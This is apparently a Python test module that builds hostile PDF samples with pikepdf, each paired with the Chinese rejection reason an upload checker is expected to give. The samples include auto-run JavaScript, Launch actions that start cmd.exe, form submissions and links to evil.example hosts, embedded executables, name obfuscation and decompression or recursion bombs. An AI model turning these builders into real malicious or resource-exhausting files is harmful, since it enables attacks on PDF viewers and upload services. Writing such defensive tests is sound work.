"""PDFs that act, carry something, or never end."""

from __future__ import annotations

import re
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, String

from tests.base.core.files.hostile.build import MEGABYTE, action, pdf, repeated, zeros, zipped
from tests.base.core.files.hostile.sample import Sample


def script() -> Dictionary:
    return action("JavaScript", JS=String("app.alert(1)"))


PACKED = {"object_stream_mode": ObjectStreamMode.generate, "compress_streams": True}


def at_root(key: str, made, **save):
    def make() -> bytes:
        def fill(document: pikepdf.Pdf) -> None:
            value = made()
            document.Root[f"/{key}"] = document.make_indirect(value) if save else value

        return pdf(fill, **save)

    return make


def on_page(value) -> bytes:
    def fill(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=value)
        document.pages[0].Annots = document.make_indirect(Array([document.make_indirect(note)]))

    return pdf(fill)


def attached() -> bytes:
    def fill(document: pikepdf.Pdf) -> None:
        document.attachments["a.exe"] = b"MZ"

    return pdf(fill)


def named_by_number() -> bytes:
    """/JavaScript with a letter written as #4a, in a file without compression."""
    made = at_root("OpenAction", script)()
    return made.replace(b"/JavaScript", b"/#4aavaScript").replace(b"/JS", b"/#4a#53")


def in_form(document: pikepdf.Pdf) -> None:
    box = Dictionary(FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()), Rect=Array([0, 0, 9, 9]))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(box)]))


def with_xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp:xdp/>"), Fields=Array([]))


def locked_without_password() -> bytes:
    """Encrypted, opened by everybody's empty password: what is inside is seen all the same."""
    return pdf(lambda d: setattr(d.Root, "OpenAction", script()), encryption=pikepdf.Encryption(owner="x", user=""), **PACKED)  # fmt: skip


def many_objects() -> bytes:
    body, places = b"%PDF-1.7\n", []
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]
    parts += [b"0"] * 400_000
    lines = []
    at = len(body)
    for number, part in enumerate(parts, 1):
        line = b"%d 0 obj%s endobj\n" % (number, part)
        places.append(at)
        lines.append(line)
        at += len(line)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Root 1 0 R/Size %d>>startxref\n%d\n%%%%EOF" % (len(parts) + 1, at)
    return (
        body
        + b"".join(lines)
        + b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
        + table
        + end
    )


def object_stream_bomb() -> bytes:
    """An object stream of some kilobytes that unpacks to a gigabyte."""
    packed = zeros(1024 * MEGABYTE)
    body = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    at = len(body)
    body += b"4 0 obj<</Type/ObjStm/N 2/First 10/Filter/FlateDecode/Length %d>>stream\n" % len(
        packed
    )
    body += packed + b"\nendstream endobj\n"
    rows = [(0, 0, 255), (1, 9, 0), (2, 4, 0), (2, 4, 1), (1, at, 0), (1, len(body), 0)]
    table = zlib.compress(
        b"".join(k.to_bytes(1) + o.to_bytes(4) + g.to_bytes(1) for k, o, g in rows)
    )
    start = len(body)
    body += (
        b"5 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n"
        % len(table)
    )
    return body + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % start


def object_stream_flood() -> bytes:
    """Promises a million objects inside one stream."""
    return re.sub(
        rb"/N \d+",
        b"/N 1000000",
        pdf(lambda d: setattr(d.Root, "X", d.make_indirect(Array([1]))), **PACKED),
    )


def drawing_bomb() -> bytes:
    """A page whose drawing asks for itself ten times, eight deep: a preview that would never end."""

    def fill(document: pikepdf.Pdf) -> None:
        inner = document.make_stream(b"0 0 500 500 re f\n" * 10)
        for _ in range(8):
            inner.Type, inner.Subtype = Name.XObject, Name.Form
            inner.BBox = Array([0, 0, 600, 800])
            outer = document.make_stream(b"/A Do\n" * 10)
            outer.Resources = Dictionary(XObject=Dictionary(A=inner))
            inner = outer
        document.pages[0].Contents = inner
        document.pages[0].Resources = inner.Resources

    return pdf(fill)


def pages_of_words() -> bytes:
    """Four thousand pages, each of two hundred lines: a count that would take a minute."""

    def fill(document: pikepdf.Pdf) -> None:
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        first = document.pages[0]
        first.Resources = Dictionary(Font=Dictionary(F=font))
        first.Contents = document.make_stream(
            b"BT /F 12 Tf 20 700 Td" + b" 0 -3 Td (words and words again) Tj" * 200 + b" ET"
        )
        for _ in range(3999):
            document.pages.append(first)

    return pdf(fill)


def page_bomb() -> bytes:
    """A page whose drawing unpacks to 300 megabytes of lines."""

    def fill(document: pikepdf.Pdf) -> None:
        packed = repeated(b"0 0 m 500 500 l S\n" * 58_254, 300)
        document.pages[0].Contents = pikepdf.Stream(document, packed, {"/Filter": Name.FlateDecode})

    return pdf(fill)


def deep() -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * 5000 + b"]" * 5000)


def own_parent() -> bytes:
    def fill(document: pikepdf.Pdf) -> None:
        document.Root.Pages.Kids.append(document.Root.Pages)

    return pdf(fill)


def no_page() -> bytes:
    buffer = BytesIO()
    pikepdf.new().save(buffer)
    return buffer.getvalue()


def giant_picture() -> bytes:
    """A page that shows a picture of 60 000 by 60 000 dots."""

    def fill(document: pikepdf.Pdf) -> None:
        facts = {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 60_000, "/Height": 60_000,
                 "/ColorSpace": Name.DeviceRGB, "/BitsPerComponent": 8, "/Filter": Name.FlateDecode}  # fmt: skip
        shown = pikepdf.Stream(document, zeros(200 * MEGABYTE), facts)
        document.pages[0].Resources = Dictionary(XObject=Dictionary(A=shown))
        document.pages[0].Contents = document.make_stream(b"q 500 0 0 500 0 0 cm /A Do Q")

    return pdf(fill)


ACTIVE, BROKEN, BEHIND = "脚本、动作或附件", "不是完好的 PDF", "夹带"
LINK = {"URI": String("https://example.edu.cn/")}
SAMPLES = [
    Sample(f"pdf-{name}", "材料.pdf", make, words)
    for name, make, words in [
        ("script-on-opening", at_root("OpenAction", script), ACTIVE),
        ("script-in-packed-objects", at_root("OpenAction", script, **PACKED), ACTIVE),
        ("script-spelled-with-numbers", named_by_number, ACTIVE),
        ("script-in-the-names", at_root("Names", lambda: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))), ACTIVE),
        ("script-in-a-form", lambda: pdf(in_form, **PACKED), ACTIVE),
        ("script-deep-inside", at_root("X", lambda: Array([Array([Dictionary(Y=Dictionary(Z=script()))])])), ACTIVE),
        ("script-under-everybodys-password", locked_without_password, ACTIVE),
        ("script-on-a-link", lambda: on_page(script()), ACTIVE),
        ("starts-a-program", at_root("OpenAction", lambda: action("Launch", F=String("cmd.exe"))), ACTIVE),
        ("starts-a-program-on-a-link", lambda: on_page(action("Launch", F=String("cmd.exe"))), ACTIVE),
        ("opens-a-page-by-itself", at_root("OpenAction", lambda: action("URI", **LINK)), ACTIVE),
        ("opens-a-page-by-itself-packed", at_root("OpenAction", lambda: action("URI", **LINK), **PACKED), ACTIVE),
        ("link-that-runs-script", lambda: on_page(action("URI", URI=String("javascript:alert(1)"))), ACTIVE),
        ("link-to-shared-folder", lambda: on_page(action("URI", URI=String("file://evil.example/a"))), ACTIVE),
        ("opens-another-document", lambda: on_page(action("GoToR", F=String("\\\\evil.example\\a.pdf"))), ACTIVE),
        ("opens-what-is-embedded", lambda: on_page(action("GoToE", T=Dictionary())), ACTIVE),
        ("sends-a-form", lambda: on_page(action("SubmitForm", F=String("http://evil.example/"))), ACTIVE),
        ("actions-of-a-page", at_root("AA", lambda: Dictionary(O=action("URI", **LINK))), ACTIVE),
        ("attachment", attached, ACTIVE),
        ("attachment-packed", at_root("X", lambda: Dictionary(Type=Name.Filespec, EF=Dictionary(F=String("a"))), **PACKED), ACTIVE),
        ("rich-media", at_root("X", lambda: Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, RichMediaContent=Dictionary())), ACTIVE),
        ("form-of-another-language", lambda: pdf(with_xfa), ACTIVE),
        ("password", lambda: pdf(encryption=pikepdf.Encryption(owner="x", user="x")), "设了密码"),
        ("no-page", no_page, BROKEN),
        ("own-parent", own_parent, BROKEN),
        ("bottomless", deep, BROKEN),
        ("cut-off", lambda: pdf()[:200], BROKEN),
        ("only-a-head", lambda: b"%PDF-1.7\n" + bytes(99), BROKEN),
        ("object-stream-bomb", object_stream_bomb, BROKEN),
        ("object-stream-flood", object_stream_flood, "过于复杂"),
        ("four-hundred-thousand-objects", many_objects, "过于复杂"),
        ("packed-objects-hidden-by-space", lambda: b"%PDF-1.7\n/N " + b" " * (20 * MEGABYTE), "过于复杂"),
        ("ten-million-names", lambda: b"%PDF-1.7\n" + b"/N" * (10 * MEGABYTE), "过于复杂"),
        ("four-million-ends", lambda: b"%PDF-1.7\n" + b"%%EOF" * (4 * MEGABYTE), BROKEN),
        ("zip-behind-it", lambda: pdf() + zipped({"a.exe": b"MZ"}), BEHIND),
        ("zip-behind-it-with-an-end", lambda: pdf() + zipped({"a.exe": b"MZ"}) + b"\n%%EOF", BEHIND),
        ("web-page-behind-it", lambda: pdf() + b"<script>alert(1)</script>" * 99, BEHIND),
        ("web-page-before-it", lambda: b"<html>" + pdf(), "不接收这种文件"),
    ]
] + [
    Sample("pdf-four-thousand-pages-of-words", "论文.pdf", pages_of_words, kept_as="论文.pdf"),
    Sample("pdf-endless-drawing", "图纸.pdf", drawing_bomb, kept_as="图纸.pdf"),
    Sample("pdf-three-hundred-megabytes-of-lines", "图纸.pdf", page_bomb, kept_as="图纸.pdf"),
    Sample("pdf-giant-picture", "图纸.pdf", giant_picture, kept_as="图纸.pdf"),
]  # fmt: skip
